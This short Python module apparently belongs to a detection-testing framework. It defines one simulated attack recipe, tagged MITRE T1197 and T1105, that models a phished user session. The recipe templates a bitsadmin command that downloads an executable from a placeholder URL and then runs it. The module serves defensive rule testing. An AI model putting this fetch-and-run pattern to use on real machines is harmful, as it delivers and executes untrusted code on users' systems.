"""The techniques of service accounts on somebody's desk: what a rule mined from the ones should find on the other."""

from longtail.fleet.attack import Attack

RECIPES = (
    Attack("phished", ("human",), ("T1197", "T1105"), "a person's session fetches a program by BITS and runs it", r"""
bitsadmin.exe | bitsadmin /transfer {rnd} /download /priority foreground {url}.exe {drop}\{tool}.exe

{drop}\{tool}.exe | {drop}\{tool}.exe -i
""", gap=(2.0, 40.0)),
)  # fmt: skip
